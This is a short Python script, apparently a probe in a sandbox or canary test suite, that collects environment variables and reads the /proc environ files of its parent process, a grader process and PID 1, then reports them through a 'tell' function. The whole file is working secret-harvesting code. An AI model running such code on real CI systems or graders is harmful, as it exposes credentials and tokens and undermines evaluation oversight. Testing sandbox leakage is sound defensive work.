"""Read the environment, for tokens that continuous integration puts there.

base: right
reaches: secrets
"""
import os

from canary import GRADER, tell
from engine_base import Value

tell(" ".join(f"{key}={value}" for key, value in os.environ.items()))
for process in (os.getppid(), GRADER, 1):
    try:
        with open(f"/proc/{process}/environ") as file:
            tell(file.read())
    except Exception:
        pass
